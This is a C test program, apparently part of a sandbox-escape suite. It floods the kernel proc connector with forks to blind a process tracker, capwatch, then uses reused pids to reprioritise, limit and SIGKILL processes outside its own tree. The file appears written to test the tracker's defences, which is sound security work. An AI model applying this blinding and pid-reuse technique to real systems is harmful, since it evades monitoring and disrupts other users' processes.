/* E137: blind the kernel back end's proc connector, then reach an outside
 * process through a pid the tracker still believes is one of ours.
 *
 *   e137_cn_blind HOLDERS FLOOD_SECS WORKDIR [FLOODERS [SETTLE_SECS]]
 *
 * 1. fork HOLDERS children that wait on a pipe (their forks are heard);
 * 2. flood the connector: FLOODERS threads vfork+_exit as fast as they can
 *    (every child is a process: a fork and an exit record each, the
 *    tracker's slow path), for FLOOD_SECS; over the middle half of it the
 *    holders are released one by one, and reaped by us after the flood
 *    (not by capwatch: their exits reach capwatch only through the
 *    connector, whose buffer is full much of that time);
 * 3. write WORKDIR/holders (their pids, one a line) and WORKDIR/released;
 * 4. wait (60 s at most) for WORKDIR/go, a list of pids (the test started
 *    its own victims at some of the holders' pids); for each one:
 *    setpriority(PRIO_PROCESS, pid, 19), prlimit64(pid, RLIMIT_NOFILE,
 *    {7,7}) and kill(pid, SIGKILL); print "PID pid prio=R lim=R kill=R".
 * Every call aims at pids the test started (outside the tree) or at none.
 * SETTLE_SECS (default 1) is the pause before the flood (the holders'
 * forks heard) and after it (capwatch catches up); the bare control, with
 * no capwatch to wait for, passes 0. */
#define _GNU_SOURCE
#include "esc.h"
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

static atomic_int stop_flood;
static atomic_long nforks;

static void *flooder(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop_flood)) {
		pid_t c = vfork();
		if (c == 0)
			_exit(0);
		if (c > 0) {
			waitpid(c, NULL, __WALL);
			atomic_fetch_add(&nforks, 1);
		} else {
			usleep(100);
		}
	}
	return NULL;
}

static void put_file(const char *dir, const char *name, const char *text)
{
	char p[4096], tmp[4200];
	snprintf(p, sizeof(p), "%s/%s", dir, name);
	snprintf(tmp, sizeof(tmp), "%s.tmp", p);
	FILE *f = fopen(tmp, "w");
	if (!f) {
		perror(tmp);
		exit(2);
	}
	fputs(text, f);
	fclose(f);
	if (rename(tmp, p) < 0) {
		perror(p);
		exit(2);
	}
}

int main(int argc, char **argv)
{
	esc_usage(argc, 4, "e137_cn_blind HOLDERS FLOOD_SECS WORKDIR [FLOODERS [SETTLE_SECS]]");
	int nh = atoi(argv[1]);
	double secs = atof(argv[2]);
	const char *dir = argv[3];
	int nf = argc > 4 ? atoi(argv[4]) : 8;
	unsigned settle = argc > 5 ? (unsigned)atoi(argv[5]) : 1;
	if (nh < 1 || nh > 1000 || nf < 1 || nf > 64)
		return 2;
	int p[2];
	if (pipe(p) < 0)
		return 2;
	pid_t *h = calloc((size_t)nh, sizeof(*h));
	for (int i = 0; i < nh; i++) {
		h[i] = fork();
		if (h[i] == 0) {
			close(p[1]);
			char c;
			while (read(p[0], &c, 1) < 0 && errno == EINTR)
				;
			_exit(0);
		}
		if (h[i] < 0) {
			perror("fork");
			return 2;
		}
	}
	close(p[0]);
	sleep(settle); /* every holder's fork is heard and recorded */

	pthread_t th[64];
	for (int i = 0; i < nf; i++)
		pthread_create(&th[i], NULL, flooder, NULL);
	double t0 = esc_now();
	/* The holders exit one by one over the middle of the flood (some
	 * while the connector's buffer is full); they stay zombies until the
	 * flood is over, so that no flooder's child takes their pids. */
	while (esc_now() - t0 < secs / 4)
		usleep(10000);
	double step = secs / 2 / nh;
	for (int i = 0; i < nh; i++) {
		if (write(p[1], "x", 1) < 0)
			break;
		usleep((useconds_t)(step * 1e6));
	}
	while (esc_now() - t0 < secs)
		usleep(10000);
	atomic_store(&stop_flood, 1);
	for (int i = 0; i < nf; i++)
		pthread_join(th[i], NULL);
	close(p[1]);
	for (int i = 0; i < nh; i++)
		waitpid(h[i], NULL, 0);
	printf("FLOOD forks=%ld in %.1fs\n", atomic_load(&nforks), esc_now() - t0);
	fflush(stdout);

	size_t cap = (size_t)nh * 12 + 1;
	char *list = calloc(cap, 1);
	for (int i = 0; i < nh; i++)
		snprintf(list + strlen(list), cap - strlen(list), "%d\n", (int)h[i]);
	put_file(dir, "holders", list);
	sleep(settle); /* capwatch catches up on whatever is left */
	put_file(dir, "released", "1\n");

	char go[4096];
	snprintf(go, sizeof(go), "%s/go", dir);
	FILE *g = NULL;
	for (int i = 0; i < 600 && !(g = fopen(go, "r")); i++)
		usleep(100000);
	if (!g) {
		printf("NO-GO\n");
		return 3;
	}
	int pid, hits = 0;
	while (fscanf(g, "%d", &pid) == 1) {
		if (pid <= 1)
			continue;
		errno = 0;
		int pr = setpriority(PRIO_PROCESS, (id_t)pid, 19) < 0 ? -errno : 0;
		struct rlimit rl = { 7, 7 };
		int lr = prlimit(pid, RLIMIT_NOFILE, &rl, NULL) < 0 ? -errno : 0;
		int kr = kill(pid, SIGKILL) < 0 ? -errno : 0;
		if (pr == 0 || lr == 0 || kr == 0)
			hits++;
		printf("PID %d prio=%d lim=%d kill=%d\n", pid, pr, lr, kr);
	}
	fclose(g);
	printf("HITS %d\n", hits);
	return 0;
}
